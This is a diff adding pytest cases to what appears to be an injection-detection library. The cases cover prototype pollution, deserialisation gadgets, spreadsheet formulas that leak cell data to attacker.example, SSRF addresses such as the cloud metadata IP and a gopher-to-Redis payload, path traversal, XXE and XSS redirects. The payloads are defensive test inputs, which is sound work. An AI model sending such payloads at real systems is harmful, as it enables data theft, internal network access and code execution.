@@ -6,10 +6,18 @@ import pytest
 from tests.support.suspects import STOPS, Suspects
 
 from vallum.inspection.detectors.code import DETECTOR as CODE
+from vallum.inspection.detectors.deserialisation import DETECTOR as DESERIALISATION
+from vallum.inspection.detectors.formula import DETECTOR as FORMULA
 from vallum.inspection.detectors.ldap import DETECTOR as LDAP
 from vallum.inspection.detectors.nosql import DETECTOR as NOSQL
+from vallum.inspection.detectors.path import DETECTOR as PATH
+from vallum.inspection.detectors.prototype import DETECTOR as PROTOTYPE
+from vallum.inspection.detectors.scanner import DETECTOR as SCANNER
+from vallum.inspection.detectors.ssrf import DETECTOR as SSRF
 from vallum.inspection.detectors.template import DETECTOR as TEMPLATE
+from vallum.inspection.detectors.xml import DETECTOR as XML
 from vallum.inspection.detectors.xpath import DETECTOR as XPATH
+from vallum.inspection.detectors.xss import DETECTOR as XSS
 
 WORDS = "a small red boat waits near our harbour since Monday "
 
@@ -217,3 +225,193 @@ def test_the_strings_of_a_query_may_hold_words(text: str) -> None:
 )
 def test_people_may_still_write_of_queries(text: str) -> None:
     assert Suspects(NOSQL).score(text) < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'{{"a":"{WORDS}","__proto__":{{"isAdmin":true}}}}',
+        f'{{"__proto__":{{"a":"{WORDS}"}}}}',
+        f'{{"constructor":{{"prototype":{{"a":"{WORDS}"}}}}}}',
+        f"constructor.prototype.note={WORDS}",
+        f"a[constructor][prototype][note]={WORDS}",
+    ],
+)
+def test_a_property_may_be_set_to_words(text: str) -> None:
+    assert Suspects(PROTOTYPE).score(text) >= STOPS
+
+
+def test_people_may_still_write_of_prototypes() -> None:
+    text = 'Please do not use the name "__proto__" in any object of ours, it breaks the old page'
+    assert Suspects(PROTOTYPE).score(text) < STOPS
+
+
+MARSHALLED = "BAhvOhRHZW06OlJlcXVpcmVtZW50AA=="
+SIGNATURE = "--0123456789abcdef0123456789abcdef01234567"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        MARSHALLED + SIGNATURE,
+        f'<java class="a.B"><!-- {WORDS} --><object class="java.lang.Runtime"/></java>',
+        f'<sorted-set><string>{WORDS}</string><dynamic-proxy><handler class="a.B"/>',
+        f'{{"py/reduce":[{{"py/type":"os.system"}},{{"py/tuple":["{WORDS}"]}}]}}',
+        f"jdbc:mysql://h.example/a?autoDeserialize=true&b={'c' * 1000}&d={WORDS}",
+    ],
+)
+def test_an_object_may_hold_words_and_end_like_a_signed_one(text: str) -> None:
+    assert Suspects(DESERIALISATION).score(text) >= STOPS
+
+
+def test_what_a_framework_signs_passes() -> None:
+    assert Suspects(DESERIALISATION).score("BAhpBg==" + SIGNATURE) < STOPS
+    assert Suspects(DESERIALISATION).score(MARSHALLED + SIGNATURE, "cookie") < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=1 + HYPERLINK("http://attacker.example/?a="&A1,"b")',
+        '=- HYPERLINK("http://attacker.example")',
+        '=A1 * 2 - WEBSERVICE("http://attacker.example")',
+        '=TRUE = IMPORTXML("http://attacker.example","//a")',
+        '+hyperlink("http://attacker.example","b")',
+        '@webservice("http://attacker.example")',
+    ],
+)
+def test_a_formula_may_begin_with_what_it_adds_to(text: str) -> None:
+    assert Suspects(FORMULA).score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["= see IMAGE (1) and IMAGE (2)", "- the QUERY (a) of mine", '+query("select 1")', "-sum(x)"],
+)
+def test_signs_before_words_pass(text: str) -> None:
+    assert Suspects(FORMULA).score(text) < STOPS
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("http://169.254.169.254/latest?a=" + WORDS, "url"),
+        ("http://127.0.0.1/?q=" + WORDS, "callback_url"),
+        ("http://10.0.0.1/a b", "imageuri"),
+        ("gopher://127.0.0.1:6379/_SET a " + WORDS, "webhook"),
+        ("metadata/computeMetadata/v1/instance", "host"),
+        ("//localhost/admin", "src"),
+        ("//metadata.google.internal/a", "path"),
+        ("http:localhost/admin", "url"),
+        ("//attacker.example/sign-in", "next"),
+        ("/\\attacker.example", "return_to"),
+        ("///attacker.example/a", "redirect_url"),
+        ("https:attacker.example", "redirect"),
+        ("//shop.example@attacker.example/", "continue"),
+    ],
+)
+def test_a_field_of_addresses_is_read_as_one(text: str, name: str) -> None:
+    assert Suspects(SSRF).score(text, name=name) >= STOPS
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("http://localhost:8080 does not load on my machine and I have no idea why", "message"),
+        ("//cdn.shop.example/a.png", "image"),
+        ("//account/orders", "next"),
+        ("//index.html?a=1", "next"),
+        ("/account/orders?sort=a.b", "next"),
+        ("https://shop.example/orders", "return_to"),
+        ("//localhost is where it runs", "note"),
+        ("metadata/title", "path"),
+        ("//internal", "note"),
+        ("http://localhost:4200/callback", "redirect_uri"),
+    ],
+)
+def test_addresses_of_honest_people_pass(text: str, name: str) -> None:
+    assert Suspects(SSRF).score(text, name=name) < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "../../../srv/a small red boat",
+        "](../../../../srv/secret",
+        "expect://echo a small red boat today",
+        "php://filter/a small red boat/resource=index.php",
+    ],
+)
+def test_names_of_files_may_have_blanks(text: str) -> None:
+    assert Suspects(PATH).score(text, name="file") >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text", ["[boat](../../docs/boat.md)", "php://input is always empty in my controller, why?"]
+)
+def test_links_and_questions_pass(text: str) -> None:
+    assert Suspects(PATH).score(text, "body", name="content") < STOPS
+
+
+def test_a_name_made_for_one_test_is_no_talk() -> None:
+    made = f"{WORDS} http://c8q2m1x0z9k3.oastify.com/"
+    assert Suspects(SCANNER).score(made) >= STOPS
+    assert Suspects(SCANNER).score(f"{WORDS} and oastify.com is what they use for it") < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f'<xsl:stylesheet version="1.0"><xsl:template match="/">{WORDS}<xsl:value-of select="a"/>',
+        f'<a xsi:schemaLocation="b http://attacker.example/a.xsd">{WORDS}</a>',
+        f"{WORDS}<![CDATA[<]]>script<![CDATA[>]]>",
+        f'{WORDS}" role="admin" note="',
+        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "//attacker.example/a.dtd">',
+        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "/srv/a.dtd">',
+    ],
+)
+def test_documents_may_hold_words(text: str) -> None:
+    assert Suspects(XML).score(text) >= STOPS
+
+
+def test_documents_of_honest_people_pass() -> None:
+    svg = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/svg11.dtd">'
+    assert Suspects(XML).score(svg) < STOPS
+    said = 'In our old sheet <xsl:value-of select="a"/> shows nothing at all, can you tell me why'
+    assert Suspects(XML).score(said) < STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        r'<form action="\\attacker.example/a">',
+        '<form action="/\\attacker.example/a">',
+        '<form action="/\t/attacker.example/a">',
+        '<form action="http:attacker.example">',
+        "<style>input[value^=a]{background:url(//attacker.example/a)}",
+        "self[`alert`](1)",
+        "javascript:name",
+        "javascript:window.location.hash",
+        "top.location='//attacker.example'",
+        "location.href='https://attacker.example'",
+        "location.replace(`//attacker.example`)",
+        "';location='//attacker.example",
+    ],
+)
+def test_spellings_that_browsers_forgive_are_judged(text: str) -> None:
+    assert Suspects(XSS).score(text) >= STOPS
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<form action="/orders">',
+        "javascript:react",
+        "location = Berlin",
+        'location="https://shop.example/sitemap.xml"',
+        "Is location.href the same as window.location.href in all of them?",
+        "<style>a { color: red }",
+    ],
+)
+def test_what_browsers_do_nothing_with_passes(text: str) -> None:
+    assert Suspects(XSS).score(text) < STOPS
